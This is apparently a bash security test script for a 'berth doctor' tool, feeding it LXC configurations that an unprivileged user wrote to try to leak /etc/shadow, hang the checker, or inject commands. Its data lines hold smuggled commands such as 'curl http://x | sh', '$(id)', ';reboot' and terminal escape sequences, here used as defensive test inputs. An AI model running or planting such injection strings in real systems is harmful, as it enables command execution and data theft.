# shellcheck shell=bash
# HostileFiles.swift runs this on a host with LXC and alice. In each attack, root examines a
# configuration that alice wrote. Prints a line for each.

berth=/run/host/bin/berth
: "${tests:?the directory of scripts}"
config=${home:?}/alice/.config/lxc
as_alice mkdir -p "$config"
cd /

# Files that alice must not read contain LXC settings, so that a leak shows in the report.
printf '%s\n' 'lxc.net.0.type = veth' 'lxc.net.0.link = secret1' >/etc/shadow
chown root:root /etc/shadow; chmod 600 /etc/shadow
echo 'crew:x:7000:' >>/etc/group
printf '%s\n' 'lxc.net.0.type = veth' 'lxc.net.0.link = secret2' >/etc/crew
chown root:crew /etc/crew; chmod 640 /etc/crew

# doctor NAME [OPTION...]: examines alice, and prints what the report says about unread files.
doctor() {
	local name=$1 begin
	shift
	begin=$(date +%s%N)
	timeout 20 "$berth" doctor alice --json "$@" >/run/json
	local milliseconds=$((($(date +%s%N) - begin) / 1000000))
	timeout 20 "$berth" doctor alice "$@" >/run/text
	python3 "$tests"/scripts/hostile-report.py "$name" "$milliseconds" /run/json /run/text
}
configure() { cat >"$config"/default.conf; }
includes() { printf 'lxc.include = %s\n' "$@" | configure; }

echo 'lxc.net.0.link = lxcbr0' | configure; doctor healthy
includes /etc/shadow; doctor shadow
includes /etc/crew; doctor 'of a group'
sed -i 's/^crew:.*/crew:x:7000:alice/' /etc/group
"$berth" doctor alice | grep -c secret2
sed -i 's/^crew:.*/crew:x:7000:/' /etc/group
includes /proc/self/environ /proc/kmsg /sys/kernel/mm/ksm/run \
	/sys/fs/cgroup/cgroup.procs /proc/self/root/etc/passwd /sys/bus/pci/devices
doctor kernel
mkfifo "$config"/fifo; includes "$config"/fifo /dev/zero /dev/ptmx relative.conf
doctor special
ln -s loop1 "$config"/loop2; ln -s loop2 "$config"/loop1; includes "$config"/loop1; doctor loop
mkdir "$config"/many; (cd "$config"/many && seq -f %g.conf 5000 | xargs touch)
includes "$config"/many; doctor 'many names'
truncate -s 2M "$config"/large; includes "$config"/large; doctor large
seq -f "lxc.include = $config/none-%g" 10000 | configure; doctor '10000 includes'
yes "lxc.include = $config/default.conf" | head -c 1000000 | configure; doctor 'of itself'
mkdir "$config"/two; (cd "$config"/two && seq -f %g.conf 300 | xargs touch); includes "$config"/two
doctor '300 files'
for number in 1 2 3; do yes '# filler' | head -c 500000 >"$config"/half$number; done
includes "$config"/half1 "$config"/half2 "$config"/half3; doctor '1.5 MB'
seq 40000 | sed 's/.*/lxc.net.&.type = veth\nlxc.net.&.link = b&/' | head -c 1000000 | configure
doctor NICs
seq 40000 | sed 's/.*/lxc.idmap = u & & 1/' | head -c 1000000 | configure; doctor ranges
{ printf 'lxc.net.0.link = '; head -c 1000000 /dev/zero | tr '\0' A; } | configure
doctor 'one line'
line=$(printf '_%.0s' {1..70})
configure <<-CONFIG
	lxc.net.0.link = br0" is no bridge. $line  # curl http://x | sh $line
	lxc.net.1.link = br0$(printf '\302\240\302\240#\302\240reboot\342\200\256\033[2J\302\23331m')
	lxc.include = /no      # reboot
	lxc.apparmor.profile = x      # reboot
	lxc.rootfs.path = dir:/home      # reboot
	lxc.cgroup2.memory      # reboot.max = 3
	lxc.idmap = u 0 100000      # reboot
CONFIG
echo 'lxc.lxcpath = /x      # reboot' >"$config"/lxc.conf
doctor 'forged lines'; doctor 'forged name' --container 'x      # reboot'
rm "$config"/lxc.conf
# Whatever the lines name, none of their text becomes a command.
evil=${home:?}/alice/.local/share/lxc/evil
as_alice mkdir -p "$evil"
cat >"$evil"/config <<-CONFIG
	lxc.rootfs.path = dir:$evil/\$(id)      # reboot
	lxc.mount.entry = /no\040\040\012#\040reboot a\012#\040reboot none bind 0 0
	lxc.mount.entry = /etc/passwd /a;reboot none bind 0 0
	lxc.hook.pre-start = /x\033[2J      # reboot
	lxc.seccomp.profile = $evil/config
	lxc.log.file = /root/x\$(id)
	lxc.init.cwd = /x      # reboot
	lxc.bogus\`id\`      # reboot = 1
	lxc.tty.max = 1; reboot
	lxc.cap.drop = sys_boo/e reboot/
	lxc.net.0.type = veth
	lxc.net.0.link = a;reboot
	lxc.net.0.type = phys
	lxc.net.0.ipv4.address = 10.0.3.9
	lxc.sysctl.net/../../x      # reboot = 1
	lxc.sysctl.net.ipv4.\`id\` = 1
	lxc.namespace.share.net = \$(reboot)
CONFIG
doctor 'forged files' --container evil
{
	printf 'lxc.rootfs.path = dir:/usr\n'
	seq 4000 | sed 's,.*,lxc.mount.entry = /a&/b/c x& none bind,'
	seq 4000 | sed 's,.*,lxc.hook.pre-start = /a&/b/c/d/e,'
} >"$evil"/config
doctor 'many files' --container evil
rm -r "$evil"

# File systems that do not answer, at each place that doctor reads.
mkdir "$config"/hang
# hang [answer]: mounts a file system of alice that does not answer.
hang() {
	python3 "$tests"/scripts/hang.py "$config"/hang 5000 "$@" &
	hanging=$!
	until grep -q "$config/hang" /proc/mounts; do sleep 0.1; done
}
unhang() { kill $hanging; wait $hanging 2>/dev/null; umount -l "$config"/hang; }
includes "$config"/hang/x; hang; doctor 'no answer'
"$berth" doctor --log "$config"/hang/log 2>&1 | tail -n 1
# While the reader waits, it runs as alice, and has no privileges or descriptors of root.
"$berth" doctor alice >/dev/null &
examining=$!
sleep 1
reader=$(pgrep -u alice -f read-user-files)
grep -E '^(Uid|Gid|Groups|CapPrm|CapEff|NoNewPrivs|Threads):' /proc/"$reader"/status \
	| tr -s '\t ' ' '
echo "terminal: $(cut -d ' ' -f 7 /proc/"$reader"/stat)"
echo "descriptors: $(find /proc/"$reader"/fd -mindepth 1 -printf '%f ')"
as_alice cat /proc/"$reader"/environ >/dev/null 2>&1 && echo 'alice reads its memory'
wait $examining
unhang
hang answer; doctor 'no answer, and no end'; unhang
echo 'lxc.lxcpath = /run/host/home/alice/.config/lxc/hang' >"$config"/lxc.conf
hang; doctor 'no answer of the path'; unhang; rm "$config"/lxc.conf
echo 'lxc.rootfs.path = dir:/run/host/home/alice/.config/lxc/hang/r' | configure
hang; doctor 'no answer of the root' --container web; unhang
# Also kills the shell of alice in which the loop runs: the loop would disturb the next examination.
end_loop() { pkill -KILL -u alice -x 'timeout|bash'; wait $stopping 2>/dev/null; }
includes "$config"/hang/x; hang
as_alice timeout 12 bash -c 'while :; do pkill -STOP -u alice -f read-user-file[s]; done' &
stopping=$!
doctor stopped
end_loop
as_alice timeout 12 bash -c 'while :; do pkill -KILL -u alice -f read-user-file[s]; done' &
stopping=$!
doctor killed
end_loop
unhang

# A log is read as the user who controls its path, whatever path root names.
ln -s /etc/shadow "$config"/log; chown -h alice "$config"/log
"$berth" doctor --log "$config"/log 2>&1
echo 'lxc-start: web: x.c: f: 1 fault' >/run/log; chmod 600 /run/log
"$berth" doctor --log /run/log | sed -n 2,3p
(cd /run && "$berth" doctor --log log | sed -n 1p)
# A file system that alice provides, in which all files seem to belong to root.
mkdir /run/forged
python3 "$tests"/scripts/forge-owner.py /run/forged 5000 /run/log &
forging=$!
until grep -q /run/forged /proc/mounts; do sleep 0.1; done
stat -c '%U %F' /run/forged/log
"$berth" doctor --log /run/forged/log 2>&1
umount /run/forged; wait $forging

# Forty users with file systems that do not answer.
for number in $(seq 40); do
	add_user "u$number" $((6000 + number)) $((10000000 + number * 65536))
	place=$home/u$number/.config/lxc
	mkdir -p "$place"/hang
	echo "lxc.include = $place/hang/x" >"$place"/default.conf
	python3 "$tests"/scripts/hang.py "$place"/hang $((6000 + number)) answer &
done
until [ "$(grep -c fuse.hang /proc/mounts)" -ge 40 ]; do sleep 0.1; done
begin=$(date +%s%N)
timeout 60 "$berth" doctor --all --json >/run/json
milliseconds=$((($(date +%s%N) - begin) / 1000000))
late=$(grep -c 'did not answer' /run/json)
[ "$milliseconds" -gt 12000 ] || milliseconds='in time'
echo "all: $(grep -c '"uid"' /run/json) users, $late without an answer, $milliseconds"
# shellcheck disable=SC2046 # numbers
kill $(jobs -p)
